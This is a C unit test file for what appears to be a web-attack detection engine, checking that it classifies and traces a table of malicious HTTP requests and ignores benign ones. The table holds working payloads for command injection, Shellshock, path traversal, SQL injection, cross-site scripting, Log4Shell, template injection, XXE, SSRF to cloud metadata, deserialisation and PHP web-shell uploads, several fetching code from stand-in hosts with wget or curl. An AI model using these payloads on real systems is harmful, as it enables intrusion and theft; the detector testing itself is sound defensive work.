/* What a request tries, and what that would leave. */
#include "../request.h"

#include <stdio.h>
#include <stdlib.h>

static struct recognition *recognition;
static struct arena arena;

static int set_up(void **state)
{
    (void)state;
    return recognition_new(&recognition);
}

static int tear_down(void **state)
{
    (void)state;
    recognition_free(recognition);
    arena_finish(&arena);
    return 0;
}

/* A kind of attack: how it is sent, its class, and an expectation it must have; text NULL: any. */
struct row {
    const char *method, *target, *header, *body;
    enum attack_class class;
    enum expectation_kind kind;
    const char *text, *host;
    unsigned port;
};

#define NONE EXPECTATION_KIND_COUNT

static const struct row rows[] = {
    /* commands, in every wrapping */
    {"GET", "/p?h=1;id", NULL, NULL, ATTACK_command_injection, EXPECT_pattern, "uid\\=", NULL, 0},
    {"GET", "/p?h=1%3Bid", NULL, NULL, ATTACK_command_injection, EXPECT_pattern, "uid\\=", NULL, 0},
    {"GET", "/p?h=1%253Bid", NULL, NULL, ATTACK_command_injection, EXPECT_pattern, "uid\\=", NULL,
     0},
    {"GET", "/p?h=$(id)", NULL, NULL, ATTACK_command_injection, EXPECT_pattern, "uid\\=", NULL, 0},
    {"POST", "/p", "Content-Type: application/x-www-form-urlencoded", "h=1%7Cid",
     ATTACK_command_injection, EXPECT_pattern, "uid\\=", NULL, 0},
    {"POST", "/p", "Content-Type: application/json", "{\"h\":\"1\\u003bid\"}",
     ATTACK_command_injection, EXPECT_pattern, "uid\\=", NULL, 0},
    {"GET", "/p?h=;ping+-c1+10.9.8.7", NULL, NULL, ATTACK_command_injection, EXPECT_icmp, NULL,
     "10.9.8.7", 0},
    {"GET", "/p?h=;nslookup+a1b2.evil.test", NULL, NULL, ATTACK_command_injection, EXPECT_dns, NULL,
     "a1b2.evil.test", 0},
    {"GET", "/p?h=;wget+http://10.9.8.7:81/x.sh", NULL, NULL, ATTACK_command_injection,
     EXPECT_request, "/x.sh", "10.9.8.7", 81},
    {"GET", "/p?h=;sleep+7", NULL, NULL, ATTACK_command_injection, EXPECT_delay, NULL, NULL, 0},
    {"GET", "/cgi-bin/t", "User-Agent: () { :;}; echo; id", NULL, ATTACK_command_injection,
     EXPECT_pattern, "uid\\=", NULL, 0},
    {"POST", "/cgi-bin/.%2e/.%2e/.%2e/bin/sh", NULL, "echo;id", ATTACK_command_injection,
     EXPECT_pattern, "uid\\=", NULL, 0},
    {"GET", "/up/shell.php?cmd=id", NULL, NULL, ATTACK_web_shell, EXPECT_pattern, "uid\\=", NULL,
     0},
    {"POST", "/e", NULL, "{\"sum\": \"require('child_process').execSync('id')\"}",
     ATTACK_code_injection, EXPECT_pattern, "uid\\=", NULL, 0},
    {"GET", "/e?sum=process.version", NULL, NULL, ATTACK_code_injection, EXPECT_pattern,
     "v\\d+\\.\\d+\\.\\d+", NULL, 0},
    {"GET", "/e?sum=(()=>{const+e=Date.now();while(Date.now()-e<2000);return+1})()", NULL, NULL,
     ATTACK_code_injection, EXPECT_delay, NULL, NULL, 0},
    {"GET", "/e?n=%3C%25=+require('os').release()+%25%3E", NULL, NULL, ATTACK_template_injection,
     EXPECT_pattern, "\\d+\\.\\d+\\.\\d+", NULL, 0},
    {"GET", "/", "X-Forwarded-For: 127.0.0.1;/bin/c[a]t /etc/group", NULL, ATTACK_command_injection,
     EXPECT_pattern, "root\\:x\\:0\\:", NULL, 0},
    {"GET", "/", "X-Forwarded-For: 127.0.0.1;{ id; } #", NULL, ATTACK_command_injection,
     EXPECT_pattern, "uid\\=", NULL, 0},
    {"GET", "/p?h=1;touch+/tmp/x", NULL, NULL, ATTACK_command_injection, NONE, NULL, NULL, 0},
    {"GET", "/e?code=system('id');", NULL, NULL, ATTACK_code_injection, EXPECT_pattern,
     "uid\\=", NULL, 0},
    /* files */
    {"GET", "/v?f=../../../../etc/passwd", NULL, NULL, ATTACK_file_inclusion, EXPECT_pattern,
     "root:", NULL, 0},
    {"GET", "/v?f=..%252f..%252fetc%252fpasswd", NULL, NULL, ATTACK_file_inclusion, EXPECT_pattern,
     "root:", NULL, 0},
    {"GET", "/v?f=..%c0%af..%c0%afetc/passwd", NULL, NULL, ATTACK_file_inclusion, EXPECT_pattern,
     "root:", NULL, 0},
    {"GET", "/v?f=php://filter/convert.base64-encode/resource=index.php", NULL, NULL,
     ATTACK_file_inclusion, EXPECT_pattern, "PD9waHA", NULL, 0},
    {"GET", "/static/../../../windows/win.ini", NULL, NULL, ATTACK_file_inclusion, EXPECT_pattern,
     "16-bit", NULL, 0},
    /* databases */
    {"GET", "/i?id=0+UNION+SELECT+1,41*271,3--+", NULL, NULL, ATTACK_sql_injection, EXPECT_literal,
     "11111", NULL, 0},
    {"GET", "/i?id=1'+OR+'1'='1", NULL, NULL, ATTACK_sql_injection, EXPECT_rows, "all", NULL, 0},
    {"GET", "/i?id=1'(.,%22,.)(,", NULL, NULL, ATTACK_sql_injection, NONE, NULL, NULL, 0},
    {"GET", "/i?id=1)+AND+JSON_KEYS((SELECT+CONCAT(0x7176627671,0x41)))", NULL, NULL,
     ATTACK_sql_injection, EXPECT_literal, "qvbvqA", NULL, 0},
    {"GET", "/i?id=2;SELECT+DBMS_PIPE.RECEIVE_MESSAGE(CHR(66)||CHR(108),4)+FROM+DUAL--", NULL, NULL,
     ATTACK_sql_injection, EXPECT_delay, NULL, NULL, 0},
    {"GET", "/i?id=1+AND+SLEEP(6)", NULL, NULL, ATTACK_sql_injection, EXPECT_delay, NULL, NULL, 0},
    /* pages */
    {"GET", "/s?q=<script>alert(1)</script>", NULL, NULL, ATTACK_cross_site_scripting,
     EXPECT_markup, "alert", NULL, 0},
    {"GET", "/s?q=%2BADw-script%2BAD4-alert(1)%2BADw-/script%2BAD4-", NULL, NULL,
     ATTACK_cross_site_scripting, EXPECT_markup, "alert", NULL, 0},
    /* Log4Shell */
    {"GET", "/", "User-Agent: ${jndi:ldap://10.9.8.7:1389/abc}", NULL, ATTACK_jndi,
     EXPECT_connection, NULL, "10.9.8.7", 1389},
    {"GET", "/?x=${${lower:j}${::-n}di:${lower:l}dap://10.9.8.7/abc}", NULL, NULL, ATTACK_jndi,
     EXPECT_connection, NULL, "10.9.8.7", 389},
    {"GET", "/?x=${jndi:dns://ns.evil.test/probe.evil.test}", NULL, NULL, ATTACK_jndi, EXPECT_dns,
     NULL, "probe.evil.test", 0},
    /* templates */
    {"GET", "/h?n={{1337*1337}}", NULL, NULL, ATTACK_template_injection, EXPECT_pattern, "1787569",
     NULL, 0},
    {"GET", "/h?n=abc${7*(6-1)}def", NULL, NULL, ATTACK_template_injection, EXPECT_literal,
     "abc35def", NULL, 0},
    {"GET", "/h?n={{7*'7'}}", NULL, NULL, ATTACK_template_injection, EXPECT_pattern, "7777777",
     NULL, 0},
    {"GET", "/h?n=<%25=+9*9*9999+%25>", NULL, NULL, ATTACK_template_injection, EXPECT_pattern,
     "809919", NULL, 0},
    {"GET", "/h?n={{cycler.__init__.__globals__.os.popen('id').read()}}", NULL, NULL,
     ATTACK_template_injection, EXPECT_pattern, "uid\\=", NULL, 0},
    {"GET", "/h?n={{['id']|filter('system')}}", NULL, NULL, ATTACK_template_injection,
     EXPECT_pattern, "uid\\=", NULL, 0},
    {"GET", "/h?n=${\"freemarker.template.utility.Execute\"?new()(\"id\")}", NULL, NULL,
     ATTACK_template_injection, EXPECT_pattern, "uid\\=", NULL, 0},
    {"GET", "/h?n=<%25=`id`%25>", NULL, NULL, ATTACK_template_injection, EXPECT_pattern,
     "uid\\=", NULL, 0},
    {"GET", "/h?n=${T(java.lang.Runtime).getRuntime().exec('wget+10.9.8.7/a')}", NULL, NULL,
     ATTACK_template_injection, EXPECT_request, "/a", "10.9.8.7", 80},
    /* entities */
    {"POST", "/x", "Content-Type: text/xml",
     "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
     ATTACK_xml_external_entity, EXPECT_pattern, "root:", NULL, 0},
    {"POST", "/x", "Content-Type: text/xml",
     "<!DOCTYPE a [<!ENTITY % b SYSTEM 'http://10.9.8.7:99/e'> %b;]><a/>",
     ATTACK_xml_external_entity, EXPECT_request, "/e", "10.9.8.7", 99},
    {"POST", "/x", "Content-Type: text/xml",
     "<!DOCTYPE a [<!ENTITY b PUBLIC \"x\" \"http://e.evil.test/\">]><a>&b;</a>",
     ATTACK_xml_external_entity, EXPECT_dns, NULL, "e.evil.test", 0},
    {"POST", "/x", "Content-Type: text/xml",
     "<!DOCTYPE a [<!ENTITY b SYSTEM \"expect://id\">]><a>&b;</a>", ATTACK_xml_external_entity,
     EXPECT_pattern, "uid\\=", NULL, 0},
    {"POST", "/x", "Content-Type: text/xml",
     "<a xmlns:xi=\"x\"><xi:include parse=\"text\" href=\"file:///etc/hosts\"/></a>",
     ATTACK_xml_external_entity, NONE, NULL, NULL, 0},
    /* fetches */
    {"GET", "/f?url=http://169.254.169.254/latest/meta-data/", NULL, NULL,
     ATTACK_server_side_request, EXPECT_pattern, "ami-id", NULL, 0},
    {"GET", "/f?url=http://127.0.0.1:6379/", NULL, NULL, ATTACK_server_side_request,
     EXPECT_connection, NULL, "127.0.0.1", 6379},
    {"GET", "/f?url=gopher://10.0.0.5:25/_x", NULL, NULL, ATTACK_server_side_request,
     EXPECT_request, "/_x", "10.0.0.5", 25},
    {"GET", "/f?url=http://2130706433/", NULL, NULL, ATTACK_server_side_request, EXPECT_dns, NULL,
     "2130706433", 0},
    {"GET", "/f?url=http://abc.oastify.com/", NULL, NULL, ATTACK_server_side_request, EXPECT_dns,
     NULL, "abc.oastify.com", 0},
    /* objects */
    {"POST", "/o", "Content-Type: application/octet-stream", "cos\nsystem\n(S'id'\ntR.",
     ATTACK_deserialisation, EXPECT_pattern, "uid\\=", NULL, 0},
    {"GET", "/o?d=gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==", NULL, NULL,
     ATTACK_deserialisation, EXPECT_pattern, "uid\\=", NULL, 0},
    {"POST", "/o", "Content-Type: text/yaml", "!!python/object/apply:os.system [\"id\"]",
     ATTACK_deserialisation, EXPECT_pattern, "uid\\=", NULL, 0},
    {"GET", "/o?d=O:8:\"Monolog\":2:{s:3:\"cmd\";s:2:\"id\";s:1:\"f\";s:6:\"system\";}", NULL, NULL,
     ATTACK_deserialisation, EXPECT_pattern, "uid\\=", NULL, 0},
    {"POST", "/o", "Content-Type: application/json",
     "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('wget "
     "http://10.9.8.7/n')}()\"}",
     ATTACK_deserialisation, EXPECT_request, "/n", "10.9.8.7", 80},
    {"POST", "/o", "Content-Type: application/octet-stream",
     "rO0ABXNyABFqYXZhLmxhbmcuUnVudGltZXQABGV4ZWN0ABRjdXJsIDEwLjkuOC43OjgxL2phdg==",
     ATTACK_deserialisation, EXPECT_request, "/jav", "10.9.8.7", 81},
    /* uploads */
    {"PUT", "/up/a1b2.php", NULL, "<?php system($_GET['c']); ?>", ATTACK_web_shell, EXPECT_file,
     "a1b2.php", NULL, 0},
    {"POST", "/up", "Content-Type: multipart/form-data; boundary=XX",
     "--XX\r\nContent-Disposition: form-data; name=\"f\"; filename=\"q9.php\"\r\n"
     "Content-Type: image/png\r\n\r\n<?php eval($_POST['x']);?>\r\n--XX--\r\n",
     ATTACK_web_shell, EXPECT_file, "q9.php", NULL, 0},
};

static bool expectation_is(const struct expectation *expectation, const struct row *row)
{
    const struct bytes text = expectation->text;
    if (expectation->kind != row->kind || (row->port && row->port != expectation->port))
        return false;
    if (row->host && !bytes_equal(expectation->host, bytes_of(row->host)))
        return false;
    return !row->text || (text.len && memmem(text.at, text.len, row->text, strlen(row->text)));
}

static bool row_is_met(const struct row *row, const struct attempts *attempts)
{
    for (uint32_t i = 0; i < attempts->count; i++) {
        const struct attempt *attempt = &attempts->items[i];
        if (attempt->class != row->class)
            continue;
        if (row->kind == NONE)
            return true;
        for (uint32_t j = 0; j < attempt->expectations.count; j++)
            if (expectation_is(&attempt->expectations.items[j], row))
                return true;
    }
    return false;
}

static void find(const struct row *row, struct attempts *ret_attempts)
{
    struct request request;
    request_make(&request, row->method, row->target, row->header, row->body, NULL);
    arena_reset(&arena);
    assert_int_equal(attempts_find(recognition, &request.exchange, &arena, ret_attempts), 0);
}

static void every_payload_has_its_class_and_trace(void **state)
{
    (void)state;
    int missed = 0;
    for (size_t i = 0; i < sizeof(rows) / sizeof(*rows); i++) {
        struct attempts attempts;
        struct request request;
        request_make(&request, rows[i].method, rows[i].target, rows[i].header, rows[i].body, NULL);
        bool suspected = recognition_suspects(recognition, &request.exchange);
        find(&rows[i], &attempts);
        if (suspected && row_is_met(&rows[i], &attempts))
            continue;
        missed++;
        print_error("%s %s %s: %s, %u attempts, first %s\n", rows[i].method, rows[i].target,
                    rows[i].body ? rows[i].body : "", suspected ? "suspected" : "not suspected",
                    attempts.count,
                    attempts.count ? attack_class_name(attempts.items[0].class) : "none");
    }
    assert_int_equal(missed, 0);
}

/* What honest clients send, though it looks a little like an attack. */
static const struct row harmless[] = {
    {"GET", "/search?q=rock+and+roll+or+jazz", NULL, NULL, 0, NONE, NULL, NULL, 0},
    {"GET", "/go?url=https://partner.example/a/b?c=d", NULL, NULL, 0, NONE, NULL, NULL, 0},
    {"GET", "/go?url=http://site.test/next", NULL, NULL, 0, NONE, NULL, NULL, 0},
    {"GET", "/a?price=12.50&sort=desc&page=2", NULL, NULL, 0, NONE, NULL, NULL, 0},
    {"GET", "/filter?tags=[%22a%22,%22b%22]&note=wait......&s=(select+one)", NULL, NULL, 0, NONE,
     NULL, NULL, 0},
    {"GET", "/name?last=O%27Brien", NULL, NULL, 0, NONE, NULL, NULL, 0},
    {"GET", "/img/a.png", "User-Agent: Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36", NULL, 0,
     NONE, NULL, NULL, 0},
    {"POST", "/api", "Content-Type: application/json", "{\"name\":\"Ann\",\"tags\":[\"a\",\"b\"]}",
     0, NONE, NULL, NULL, 0},
    {"POST", "/soap", "Content-Type: text/xml",
     "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0//EN\" "
     "\"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\"><html/>",
     0, NONE, NULL, NULL, 0},
    {"POST", "/up", "Content-Type: multipart/form-data; boundary=XX",
     "--XX\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.txt\"\r\n\r\nhello\r\n"
     "--XX--\r\n",
     0, NONE, NULL, NULL, 0},
};

static void honest_requests_try_nothing(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof(harmless) / sizeof(*harmless); i++) {
        struct attempts attempts;
        find(&harmless[i], &attempts);
        if (attempts.count)
            print_error("%s: %s\n", harmless[i].target, attack_class_name(attempts.items[0].class));
        /* a name with a quote may be a probe; it must not be a sure one */
        assert_true(attempts.count == 0 || attempts.items[0].confidence < 0.7);
    }
}

/* Many places, each with a script that never ends: the effort of a request is bounded. */
static void endless_scripts_in_every_parameter_end(void **state)
{
    (void)state;
    struct buffer target = {0};
    struct attempts attempts;
    buffer_put(&target, BYTES("/p?"));
    for (int i = 0; i < 300; i++)
        buffer_put_format(&target, "a%d=;while+:;do+seq+9999|sort;done;x%d&", i, i);
    buffer_put_char(&target, 0);
    const struct row row = {.method = "GET", .target = target.at};
    double start = cpu_seconds();
    find(&row, &attempts);
    assert_true(cpu_seconds() - start < 5);
    assert_true(attempts.effort >= ATTEMPTS_EFFORT);
    buffer_finish(&target);
}

/* One text of 64 KiB made of `piece` in a parameter, with what reads it. */
static void piece_repeated(const char *piece)
{
    struct buffer body = {0};
    struct attempts attempts;
    buffer_put(&body, BYTES("q="));
    while (body.len < 65000)
        buffer_put(&body, bytes_of(piece));
    buffer_put_char(&body, 0);
    const struct row row = {.method = "POST",
                            .target = "/p",
                            .header = "Content-Type: application/x-www-form-urlencoded",
                            .body = body.at};
    double start = cpu_seconds();
    find(&row, &attempts);
    double took = cpu_seconds() - start;
    if (took >= 5)
        print_error("%s took %.1f s\n", piece, took);
    assert_true(took < 5);
    buffer_finish(&body);
}

static void long_repetitions_take_no_long_time(void **state)
{
    (void)state;
    static const char *const pieces[] = {
        "${",         "}",
        "${lower:",   "${a:-}}}}",
        "$(",         "$($(",
        "`",          "or ",
        "union ",     "' or '",
        "{{7*7}}",    "{{",
        "<script ",   "<!ENTITY ",
        "%2525",      "&#x26;",
        "\\u005c",    "((",
        "${jndi:",    "s:9:\"",
        "|filter(['", "../",
        "sleep(",     ";id",
        "'a'||",      "O:1:\"a\":1:{",
    };
    for (size_t i = 0; i < sizeof(pieces) / sizeof(*pieces); i++)
        piece_repeated(pieces[i]);
    struct buffer nested = {0};
    buffer_put(&nested, BYTES(";"));
    for (int i = 0; i < 1000; i++)
        buffer_put(&nested, BYTES("$(echo "));
    buffer_put_char(&nested, 0);
    piece_repeated(nested.at);
    buffer_finish(&nested);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(every_payload_has_its_class_and_trace),
        cmocka_unit_test(honest_requests_try_nothing),
        cmocka_unit_test(endless_scripts_in_every_parameter_end),
        cmocka_unit_test(long_repetitions_take_no_long_time),
    };
    return cmocka_run_group_tests(tests, set_up, tear_down);
}
